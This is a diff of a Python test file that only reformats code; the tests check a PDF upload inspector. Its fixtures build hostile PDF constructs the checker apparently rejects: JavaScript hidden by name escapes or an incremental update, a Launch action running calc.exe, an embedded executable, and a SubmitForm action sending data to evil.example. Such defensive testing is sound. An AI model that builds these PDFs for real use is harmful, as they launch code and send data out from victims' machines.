@@ -72,7 +72,11 @@ def test_plain_hand_made_pdf_is_accepted_and_rebuilt():
 
 
 def test_name_escapes_are_decoded():
-    assert list(raw_names(b"/J#61vaScript /#4A#53 (/Launch) % /EmbeddedFiles\n/Ok")) == ["JavaScript", "JS", "Ok"]
+    assert list(raw_names(b"/J#61vaScript /#4A#53 (/Launch) % /EmbeddedFiles\n/Ok")) == [
+        "JavaScript",
+        "JS",
+        "Ok",
+    ]
 
 
 @pytest.mark.parametrize(
@@ -167,10 +171,10 @@ def test_incremental_update_after_eof():
     update += b"6 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
     previous = int(original.rsplit(b"startxref", 1)[1].split()[0])
     xref_at = start + len(update)
-    update += (
-        b"xref\n0 2\n0000000000 65535 f \n%010d 00000 n \n6 1\n%010d 00000 n \n" % (start, action_at)
-        + b"trailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous, xref_at)
-    )
+    update += b"xref\n0 2\n0000000000 65535 f \n%010d 00000 n \n6 1\n%010d 00000 n \n" % (
+        start,
+        action_at,
+    ) + b"trailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous, xref_at)
     data = original + update
     from pypdf import PdfReader
 
@@ -188,8 +192,13 @@ def test_dead_object_of_an_earlier_revision_is_still_refused():
     "extra,objects_extra",
     [
         (b"/OpenAction << /S /Launch /F (calc.exe) >> ", {}),
-        (b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> ",
-         {6: b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", 7: _stream(b"MZ", b"/Type /EmbeddedFile ")}),
+        (
+            b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> ",
+            {
+                6: b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
+                7: _stream(b"MZ", b"/Type /EmbeddedFile "),
+            },
+        ),
         (b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> ", {}),
         (b"/OpenAction << /S /ImportData /F (data.fdf) >> ", {}),
         (b"/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >> ", {}),
@@ -215,7 +224,9 @@ def test_harmless_extras_are_accepted_and_left_out_of_the_rebuilt_file():
         page_extra=b"/Annots [7 0 R 8 0 R] /AA << /O << /S /Named /N /NextPage >> >> ",
     )
     objects[6] = b"<< /Type /Outlines /Count 0 >>"
-    objects[7] = b"<< /Type /Annot /Subtype /Link /Rect [10 10 50 50] /A << /S /URI /URI (https://example.org/) >> >>"
+    objects[7] = (
+        b"<< /Type /Annot /Subtype /Link /Rect [10 10 50 50] /A << /S /URI /URI (https://example.org/) >> >>"
+    )
     objects[8] = b"<< /Type /Annot /Subtype /Text /Rect [60 60 80 80] /Contents (a note) >>"
     info = inspect_upload(build_pdf(objects))
     from pypdf import PdfReader
